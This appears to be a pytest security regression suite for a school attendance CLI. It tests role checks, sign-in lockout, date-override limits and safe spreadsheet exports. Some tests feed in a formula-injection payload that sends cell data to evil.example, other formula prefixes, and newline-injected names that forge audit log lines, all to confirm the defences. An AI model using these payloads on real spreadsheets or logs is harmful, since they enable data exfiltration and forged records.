"""Issue 13, items 1, 3 and 4, each written as the attack that worked before: sign-in bypassed or
roles ignored, --today bending a rule, and exports that a spreadsheet would run as formulas."""

import csv
import time
from datetime import date, datetime, timedelta

import pytest
from openpyxl import load_workbook

from attendance_desk.cli import main
from attendance_desk.services.backups import make_backup, restore
from attendance_desk.services.marks import amend_mark
from attendance_desk.services.school import ServiceError, create_school
from attendance_desk.services.users import add_user, change_user, sign_in
from attendance_desk.store.db import StoreError, open_store
from tests.helpers import add_pupil, make_school, put_marks, upn

DAY = date(2024, 9, 10)
PASSWORDS = {
    "Admin": "admin-pass-1",
    "Office One": "office-pass-1",
    "Lead": "lead-pass-1",
    "Head": "head-pass-1",
}
HYPERLINK = '=HYPERLINK("http://evil.example/"&B2,"x")'


@pytest.fixture
def school(tmp_path):
    """A school file with an administrator, an office user, a lead and a head; one pupil with marks."""
    store = make_school(tmp_path)
    pupil = add_pupil(store, 1)
    put_marks(store, pupil, {(DAY, "AM"): "N", (DAY, "PM"): "N"})
    add_user(store, "", "Admin", "admin", PASSWORDS["Admin"])
    add_user(store, "Admin", "Office One", "office", PASSWORDS["Office One"])
    add_user(store, "Admin", "Lead", "lead", PASSWORDS["Lead"])
    add_user(store, "Admin", "Head", "head", PASSWORDS["Head"])
    store.close()
    return tmp_path / "school.sqlite", pupil


def run(monkeypatch, capsys, db, user, *args, password=None):
    if password is None and user in PASSWORDS:
        password = PASSWORDS[user]
    if password is None:
        monkeypatch.delenv("ATTENDANCE_DESK_PASSWORD", raising=False)
    else:
        monkeypatch.setenv("ATTENDANCE_DESK_PASSWORD", password)
    code = main(["--db", str(db), "--as", user, *map(str, args)])
    out, err = capsys.readouterr()
    assert "Traceback" not in err
    return code, out, err


# 1. Sign-in is never bypassed


def test_an_office_user_is_refused_each_command_beyond_the_office(
    school, tmp_path, monkeypatch, capsys
):
    db, pupil = school
    attempts = {
        "backup --to": (
            ["backup", "--to", tmp_path / "usb"],
            "copy the school file to a folder other",
        ),
        "tsm-pack --xlsx": (
            ["tsm-pack", "--out", tmp_path / "t.pdf", "--xlsx", tmp_path / "t.xlsx"],
            "cannot make",
        ),
        "visit-form": (
            ["visit-form", "--upn", pupil.upn, "--out", tmp_path / "v.pdf"],
            "cannot make",
        ),
        "audit": (["audit"], "cannot read or export the audit log"),
        "audit --csv": (
            ["audit", "--csv", tmp_path / "a.csv"],
            "cannot read or export the audit log",
        ),
        "user list": (["user", "list"], "cannot manage users"),
        "posted": (["posted", "--letter", 1], "cannot make letters"),
        "export": (["export", "xlsx", tmp_path / "w.xlsx"], "cannot export data"),
        "restore": (["restore", tmp_path / "x.sqlite"], None),
        "retention": (
            ["retention", "--apply", "--archive", tmp_path / "arch"],
            "cannot change settings",
        ),
    }
    backup = make_backup(open_store(db), tmp_path / "backups", by="Admin").path
    attempts["restore"] = (["restore", backup], "cannot restore the school file")
    for name, (args, message) in attempts.items():
        code, _, err = run(monkeypatch, capsys, db, "Office One", *args)
        assert code == 1, name
        assert "refused: Office One is signed in as office" in err and message in err, (name, err)
    for made in ("usb", "t.pdf", "t.xlsx", "v.pdf", "a.csv", "w.xlsx", "arch"):
        assert not (tmp_path / made).exists()
    assert not list(tmp_path.glob("school-before-restore-*"))
    # the office may still back up into the school's own backup folder, audited under their name
    code, out, _ = run(monkeypatch, capsys, db, "Office One", "backup")
    assert code == 0
    with open_store(db) as store:
        backups = [e for e in store.audit.entries() if e.action == "backup"]
        assert backups[-1].user == "Office One" and all(e.user for e in backups)


def test_forms_need_the_letters_permission_and_are_audited(school, tmp_path, monkeypatch, capsys):
    db, pupil = school
    code, _, _ = run(
        monkeypatch,
        capsys,
        db,
        "Lead",
        "visit-form",
        "--upn",
        pupil.upn,
        "--out",
        tmp_path / "v.pdf",
    )
    assert code == 0 and (tmp_path / "v.pdf").exists()
    with open_store(db) as store:
        made = [e for e in store.audit.entries() if e.action == "document made: home visit"]
    assert made and made[-1].user == "Lead" and pupil.upn == made[-1].subject


def test_restore_without_sign_in_is_refused_and_the_school_keeps_its_users(
    school, tmp_path, monkeypatch, capsys
):
    create_school(tmp_path / "empty.sqlite", "Empty", "654321").close()  # a fresh file: no users
    db, _ = school
    empty = tmp_path / "empty.sqlite"
    code, _, err = run(monkeypatch, capsys, db, "nobody", "restore", empty)  # no password at all
    assert code == 1 and "ATTENDANCE_DESK_PASSWORD" in err
    code, _, err = run(
        monkeypatch, capsys, db, "nobody", "restore", empty, password="guessing-pass"
    )
    assert code == 1 and "name or password is not right" in err
    code, _, err = run(
        monkeypatch, capsys, db, "Admin", "restore", empty
    )  # even the admin: no users in it
    assert code == 1 and "has no users" in err
    with open_store(db) as store:
        assert store.users.any() and not store.replaced()
    assert not list(tmp_path.glob("school-before-restore-*"))


def test_an_admin_restores_a_backup_audited_in_both_files(school, tmp_path, monkeypatch, capsys):
    db, pupil = school
    with open_store(db) as store:
        backup = make_backup(store, tmp_path / "backups", by="Admin").path
    code, out, err = run(monkeypatch, capsys, db, "Admin", "restore", backup)
    assert code == 0, err
    (aside,) = tmp_path.glob("school-before-restore-*.sqlite")
    with open_store(db) as store:
        last = store.audit.entries()[-1]
        assert (last.user, last.action) == (
            "Admin",
            "restored from a backup",
        ) and aside.name in last.detail
        assert not store.replaced()  # the restored file saves as usual
        amend_mark(store, pupil.upn, DAY, "AM", "I", "mum rang", "Office One")
    with open_store(aside) as kept:
        assert "restored in place of this school file" in kept.replaced()
        assert any(
            e.action == "restored from a backup: this file replaced" and e.user == "Admin"
            for e in kept.audit.entries()
        )


def test_a_window_open_before_the_restore_stops_saving_and_says_so(school, tmp_path):
    db, pupil = school
    with open_store(db) as store:
        backup = make_backup(store, tmp_path / "backups", by="Admin").path
    window = open_store(db)  # another PC's window, still open on the file
    assert window.marks.get(pupil.id, DAY, "AM").code == "N"
    aside = restore(db, backup, "Admin")
    with pytest.raises(
        StoreError, match="nothing was saved: a backup .* was restored in place of this school file"
    ):
        amend_mark(window, pupil.upn, DAY, "AM", "I", "mum rang", "Office One")
    window.close()
    for path in (db, aside):  # the change is in neither file, and the window was told
        with open_store(path) as store:
            assert store.marks.get(pupil.id, DAY, "AM").code == "N"


def test_there_is_always_an_administrator(school, monkeypatch, capsys):
    db, _ = school
    with open_store(db) as store:
        for change in ({"role": "office"}, {"active": False}):
            with pytest.raises(ServiceError, match="Admin is the only administrator"):
                change_user(store, "Admin", "Admin", **change)
        assert store.users.by_name("Admin").role == "admin"
    code, _, err = run(
        monkeypatch, capsys, db, "Admin", "user", "set", "--name", "Admin", "--role", "lead"
    )
    assert code == 1 and "only administrator" in err
    code, _, err = run(
        monkeypatch, capsys, db, "Admin", "user", "set", "--name", "Admin", "--disable"
    )
    assert code == 1 and "only administrator" in err


def test_an_admin_cannot_make_themselves_head_and_sign(school, tmp_path, monkeypatch, capsys):
    db, _ = school
    monkeypatch.setenv("ATTENDANCE_DESK_NEW_PASSWORD", "second-admin-pass")
    assert (
        run(monkeypatch, capsys, db, "Admin", "user", "add", "--name", "Deputy", "--role", "admin")[
            0
        ]
        == 0
    )
    code, _, err = run(
        monkeypatch, capsys, db, "Admin", "user", "set", "--name", "Admin", "--role", "head"
    )
    assert code == 1 and "change their own role" in err
    signature = tmp_path / "sig.png"
    from PIL import Image

    Image.new("RGB", (300, 90), (255, 255, 255)).save(signature)
    code, _, err = run(monkeypatch, capsys, db, "Admin", "user", "signature", "--image", signature)
    assert code == 1 and "cannot sign certificates" in err
    code, out, _ = run(monkeypatch, capsys, db, "Head", "user", "signature", "--image", signature)
    assert code == 0 and "stored in the school file" in out
    with open_store(db) as store:
        assert store.users.signature("Head") == signature.read_bytes()
        assert store.audit.entries()[-1].user == "Head"


def test_twenty_wrong_passwords_then_the_right_one_is_locked_out(school):
    db, _ = school
    store = open_store(db)
    messages = []
    for _ in range(20):
        with pytest.raises(ServiceError) as refused:
            sign_in(store, "Lead", "wrong-password-x")
        messages.append(str(refused.value))
    assert messages[0] == "the name or password is not right"
    assert "locked for 5 minutes" in messages[4]  # the fifth wrong password in a row locks
    with pytest.raises(
        ServiceError, match=r"sign-in for Lead is locked after 5 wrong passwords .* try again at"
    ):
        sign_in(store, "Lead", PASSWORDS["Lead"])
    store.close()
    with open_store(db) as again:  # the count is in the file, not in one program's memory
        assert again.users.by_name("Lead").failed_signins == 5
        with pytest.raises(ServiceError, match="locked"):
            sign_in(again, "Lead", PASSWORDS["Lead"])
        later = datetime.now().astimezone() + timedelta(minutes=6)
        with pytest.raises(ServiceError, match="locked for 10 minutes"):  # and it grows
            sign_in(again, "Lead", "wrong-password-x", now=later)
        assert (
            sign_in(again, "Lead", PASSWORDS["Lead"], now=later + timedelta(minutes=11)).name
            == "Lead"
        )
        assert again.users.by_name("Lead").failed_signins == 0
        refused = [
            e for e in again.audit.entries() if e.action == "sign-in refused" and e.user == "Lead"
        ]
        assert len(refused) >= 22
        # an administrator's new password unlocks at once
        for _ in range(5):
            with pytest.raises(ServiceError):
                sign_in(again, "Lead", "wrong-password-x")
        change_user(again, "Admin", "Lead", password="a-new-lead-pass")
        assert sign_in(again, "Lead", "a-new-lead-pass").name == "Lead"


def test_an_unknown_name_takes_as_long_as_a_known_one(school, monkeypatch):
    from attendance_desk.services import users

    db, _ = school
    hashed = []
    real = users.check_password
    monkeypatch.setattr(
        users, "check_password", lambda pw, stored: hashed.append(stored) or real(pw, stored)
    )

    def timed(name):
        start = time.perf_counter()
        with pytest.raises(ServiceError, match="^the name or password is not right$"):
            sign_in(store, name, "wrong-password-x")
        return time.perf_counter() - start

    with open_store(db) as store:
        known = min(timed("Head") for _ in range(3))
        unknown = min(timed("Nobody At All") for _ in range(3))
    assert len(hashed) == 6 and all(
        h.startswith("scrypt$16384$8$1$") for h in hashed
    )  # a real scrypt each time
    assert unknown > known * 0.5


def test_common_and_short_passwords_are_refused(school, monkeypatch, capsys):
    db, _ = school
    with open_store(db) as store:
        for weak in ("12345678", "password123", "Password123", "qwertyuiop1", "letmein123!"):
            with pytest.raises(ServiceError, match="at least 10 characters|commonest passwords"):
                add_user(store, "Admin", "New Person", "office", weak)
        with pytest.raises(ServiceError, match="commonest"):
            change_user(store, "Admin", "Lead", password="password123")
        assert store.users.by_name("New Person") is None
    monkeypatch.setenv("ATTENDANCE_DESK_NEW_PASSWORD", "12345678")
    code, _, err = run(
        monkeypatch, capsys, db, "Admin", "user", "add", "--name", "New Person", "--role", "office"
    )
    assert code == 1 and "at least 10 characters" in err


def test_a_user_name_cannot_carry_a_line_break(school):
    db, _ = school
    with open_store(db) as store, pytest.raises(ServiceError, match="line break"):
        add_user(
            store,
            "Admin",
            "Eve\n2026-11-25 09:00:00  Admin  user added",
            "office",
            "eve-password-1",
        )


# 3. --today cannot bend a rule


def test_today_in_the_future_does_not_widen_retention(tmp_path, monkeypatch, capsys):
    store = make_school(tmp_path)
    recent = add_pupil(store, 1, leaving_date=date(2026, 7, 22))  # kept until 2032
    old = add_pupil(store, 2, leaving_date=date(2019, 7, 19))  # over six years ago by the real date
    add_user(store, "", "Admin", "admin", PASSWORDS["Admin"])
    store.close()
    db = tmp_path / "school.sqlite"
    monkeypatch.setenv("ATTENDANCE_DESK_PASSWORD", PASSWORDS["Admin"])
    code = main(
        [
            "--db",
            str(db),
            "--as",
            "Admin",
            "--today",
            "2033-09-01",
            "retention",
            "--apply",
            "--archive",
            str(tmp_path / "archive"),
        ]
    )
    out, err = capsys.readouterr()
    assert code == 0, err
    assert out.startswith("1 pupil(s)")
    with open_store(db) as store:
        assert store.pupils.by_upn(recent.upn) is not None
        assert store.pupils.by_upn(old.upn) is None


def test_today_in_the_future_cannot_import_future_present_marks(tmp_path, capsys):
    from attendance_desk.domain.calendar import Term

    ahead = date.today() + timedelta(days=40)
    while ahead.weekday() > 3:
        ahead += timedelta(days=1)
    store = make_school(
        tmp_path,
        terms=[Term("Next term", ahead - timedelta(days=14), ahead + timedelta(days=30))],
        closures=[],
    )
    add_pupil(store, 1)
    store.close()
    marks = tmp_path / "marks.csv"
    marks.write_text(
        f"upn,date,session,code\n{upn(1)},{ahead},AM,/\n{upn(1)},{ahead},PM,\\\n", encoding="utf-8"
    )
    db = tmp_path / "school.sqlite"
    code = main(
        [
            "--db",
            str(db),
            "--as",
            "office1",
            "--today",
            (ahead + timedelta(days=7)).isoformat(),
            "import",
            "marks",
            str(marks),
        ]
    )
    _, err = capsys.readouterr()
    assert code == 1 and "is in the future" in err
    with open_store(db) as store:
        assert store.marks.count() == 0


# 4. Exports are inert


def test_a_formula_surname_imported_by_csv_is_text_in_the_workbook(tmp_path, capsys):
    store = make_school(tmp_path)
    store.close()
    db = tmp_path / "school.sqlite"
    pupils = tmp_path / "pupils.csv"
    with pupils.open("w", newline="", encoding="utf-8") as fh:
        out = csv.writer(fh)
        out.writerow(["upn", "surname", "forename", "year_group", "reg_group", "admission_date"])
        out.writerow([upn(1), HYPERLINK, "+SUM(1,2)", "4", "@4A", "2020-09-01"])
    assert main(["--db", str(db), "--as", "lead", "import", "pupils", str(pupils)]) == 0
    with open_store(db) as store:
        put_marks(store, store.pupils.by_upn(upn(1)), {(DAY, "AM"): "/", (DAY, "PM"): "\\"})
    book = tmp_path / "w.xlsx"
    assert (
        main(
            [
                "--db",
                str(db),
                "--as",
                "lead",
                "--today",
                "2024-09-30",
                "export",
                "xlsx",
                str(book),
                "--from",
                "2024-09-02",
                "--to",
                "2024-09-30",
            ]
        )
        == 0
    )
    capsys.readouterr()
    found = []
    for sheet in load_workbook(book).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "@")):
                    found.append((sheet.title, cell.value, cell.data_type))
    assert (HYPERLINK, "s") in {(v, t) for _, v, t in found}
    assert found and all(t == "s" for _, _, t in found), found  # never a formula ("f")


def test_a_formula_user_name_is_text_in_the_audit_csv(tmp_path, capsys):
    store = make_school(tmp_path)
    pupil = add_pupil(store, 1)
    put_marks(store, pupil, {(DAY, "AM"): "N"})
    store.close()
    db = str(tmp_path / "school.sqlite")
    assert (
        main(
            [
                "--db",
                db,
                "--as",
                HYPERLINK,
                "amend",
                "--upn",
                pupil.upn,
                "--date",
                "2024-09-10",
                "--session",
                "AM",
                "--code",
                "I",
                "--reason=-1+1",
            ]
        )
        == 0
    )
    assert main(["--db", db, "--as", "admin", "audit", "--csv", str(tmp_path / "audit.csv")]) == 0
    rows = list(csv.reader((tmp_path / "audit.csv").open(encoding="utf-8-sig")))
    cells = [c for row in rows for c in row]
    assert "'" + HYPERLINK in cells and HYPERLINK not in cells
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)


def test_a_name_with_a_newline_cannot_forge_an_audit_line(tmp_path, capsys):
    store = make_school(tmp_path)
    pupil = add_pupil(store, 1)
    put_marks(store, pupil, {(DAY, "AM"): "N"})
    store.close()
    db = str(tmp_path / "school.sqlite")
    forged = "lead\n2026-11-25 09:00:00  Mrs J. Harwood amend mark"
    assert (
        main(
            [
                "--db",
                db,
                "--as",
                forged,
                "amend",
                "--upn",
                pupil.upn,
                "--date",
                "2024-09-10",
                "--session",
                "AM",
                "--code",
                "I",
                "--reason",
                "flu\r\nanother line",
            ]
        )
        == 0
    )
    capsys.readouterr()
    assert main(["--db", db, "--as", "admin", "audit"]) == 0
    out = capsys.readouterr().out
    with open_store(db) as store:
        entries = store.audit.entries()
    lines = out.splitlines()
    assert (
        len(lines) == len(entries) - 1
    )  # one line per entry (the last, "audit log read", came after)
    assert not any(line.startswith("2026-11-25 09:00:00") for line in lines)
    assert "lead\\n2026-11-25" in out and "flu\\r\\nanother line" in out
